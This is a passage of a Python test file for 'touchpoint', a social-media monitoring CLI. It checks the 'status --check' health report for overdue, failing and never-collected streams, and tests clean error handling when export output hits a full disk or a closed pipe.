    ran("late", 11)  # missed one run and more: 2 x 300 s + 30 s = 10.5 min
    for _ in range(3):
        ran("failing", 2, "failed", error="boom")
    ran("deferred", 20, "deferred", retry_at=now + timedelta(minutes=5))
    ran("backfill", 600, "interrupted")  # stopped half-way: listed, to be resumed
    ran("old keywords", 600)  # the search of keywords since changed: history, not judged
    db.conn.close()
    out = run("status").stdout
    lines = out.splitlines()

    def row(key: str) -> str:
        (line,) = (line for line in lines if line.startswith(str(keys[key]) + " "))
        return line

    assert "HEALTH" in lines[0]
    assert "  ok  " in row("fresh")
    assert "overdue (runs every 5m)" in row("late")
    assert "warning: 3 runs failed in a row" in row("failing")
    assert "overdue" not in row("deferred") and "  ok  " in row("deferred")  # waits on purpose
    assert "  -  " in row("backfill") and "overdue" not in row("backfill")  # not judged
    assert "  -  " in row("old keywords") and "warning" not in row("old keywords")
    assert out == (plain := run("status")).stdout and plain.exit_code == 0  # no --check: 0

    checked = run("status", "--check")
    assert checked.exit_code == 1 and checked.stdout == out  # the same table, and a verdict
    assert checked.stderr.splitlines() == [
        f"check: {keys['failing']}: warning: 3 runs failed in a row",
        f"check: {keys['late']}: overdue (runs every 5m)",
        "check: globex/x/mentions: never collected",  # globex's other streams never ran
        "check: globex/x/posts: never collected",
        "check: 4 streams need a look",
    ]
    assert "never collected: globex/x/mentions, globex/x/posts (new in the config?" in out


def test_cli_status_check_passes_when_all_streams_are_ok_and_fails_before_any_collect(
    write_config: Callable[..., Path],
) -> None:
    config = write_config("http://127.0.0.1:9")
    with config.open("a") as more:
        more.write('reddit = "acme"\n')  # below [brands.accounts]
    before = run("status", "--check")
    assert before.exit_code == 1 and "no database" in before.stdout.lower()
    db = store.open_db(Path("touchpoint.db"))
    now = clock.now()

    def ran(platform: str, stream: str, query: str = "", outcome: str = "ok") -> None:
        key = StreamKey("acme", platform, stream, query)
        store.record_run(db, RunResult(key, now, now, outcome))  # type: ignore[arg-type]

    for stream in ("posts", "mentions"):
        ran("x", stream)
    ran("reddit", "posts")
    ran("reddit", "mentions", outcome="skipped")  # Reddit without a login: its inbox left out
    db.conn.close()
    left_out = run("status", "--check")  # the config asks for these, and they are not collected
    assert left_out.exit_code == 1
    assert left_out.stderr.splitlines()[:3] == [
        "check: acme/reddit/keywords 'acme': never collected",
        "check: acme/reddit/mentions: not collected",
        "check: acme/x/keywords 'acme -is:retweet': never collected",
    ]
    db = store.open_db(Path("touchpoint.db"))
    ran("x", "keywords", XCollector.keyword_query(["acme"]))
    ran("reddit", "keywords", "acme")
    db.conn.close()
    config.write_text(
        config.read_text().replace(
            "[[brands]]", '[platforms.reddit]\nstreams = ["posts"]\n\n[[brands]]'
        )
    )
    ok = run("status", "--check")  # left out on purpose now: history, not judged
    assert ok.exit_code == 0 and ok.stderr == "", ok.stderr
    no_config = run("--config", "nowhere.toml", "--db", "touchpoint.db", "status", "--check")
    assert no_config.exit_code == 1 and "nowhere.toml" in one_error_line(no_config)
    assert run("--config", "nowhere.toml", "--db", "touchpoint.db", "status").exit_code == 0


def store_with_posts(path: Path, count: int) -> Path:
    db = store.open_db(path)
    texts = [f"mention {n} " + "word " * 20 for n in range(count)]
    store.upsert_posts(db, [post(str(n), text=text) for n, text in enumerate(texts)])
    db.conn.close()
    return path


def touchpoint(config: Path, db: Path, *args: str) -> list[str]:
    """The command line of a real ``touchpoint`` process."""
    return [sys.executable, "-m", "monitor", "--config", str(config), "--db", str(db), *args]


FULL_DISK = (
    "Error: cannot write the output: No space left on device. Fix: free space or write elsewhere"
)


def test_cli_output_to_a_full_disk_is_one_clear_line(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    config = write_config("http://127.0.0.1:9")
    db = store_with_posts(tmp_path / "touchpoint.db", 50)
    with open("/dev/full", "w") as full:  # noqa: PTH123 - a device, not a path to build on
        done = subprocess.run(
            touchpoint(config, db, "export"), stdout=full, stderr=subprocess.PIPE, timeout=60
        )
    assert done.returncode == 1
    assert done.stderr.decode() == FULL_DISK + "\n"  # no traceback, no "Exception ignored"
    written = run("--config", str(config), "--db", str(db), "export", "-o", "/dev/full")
    assert written.exit_code == 1 and one_error_line(written) == FULL_DISK


def test_cli_output_into_a_closed_pipe_ends_quietly(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    config = write_config("http://127.0.0.1:9")
    db = store_with_posts(tmp_path / "touchpoint.db", 3000)  # far more than a pipe holds
    with subprocess.Popen(
        touchpoint(config, db, "export"), stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        assert process.stdout is not None and process.stdout.read(100)
        process.stdout.close()  # `| head -c 100` (click's main() handles EPIPE)
        _, errors = process.communicate(timeout=60)
    assert process.returncode == 1 and errors == b""
